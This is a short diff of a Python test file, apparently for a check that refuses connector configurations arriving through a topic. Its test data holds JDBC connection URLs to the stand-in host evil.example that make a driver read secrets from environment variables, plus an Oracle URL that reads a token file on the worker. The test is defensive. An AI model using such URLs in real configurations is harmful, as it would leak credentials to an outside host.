@@ -162,7 +162,7 @@ def test_a_config_in_the_topic_does_not_start(host: MemoryHost, started: list[st
 DRIVERS = (
     (
         "connection.url",
-        "jdbc:mariadb://evil.example/d?credentialType=ENV&userKey=DATABASE_PASSWORD",
+        "jdbc:mariadb://evil.example/d?credentialType=ENV&userKey=SECRET",
         "variables of the process",
     ),
     ("connection.url", "jdbc:oracle:thin:@tcps://h/d?TOKEN_AUTH=OAUTH&TOKEN_LOCATION=/var/run/token", "the worker's files"),
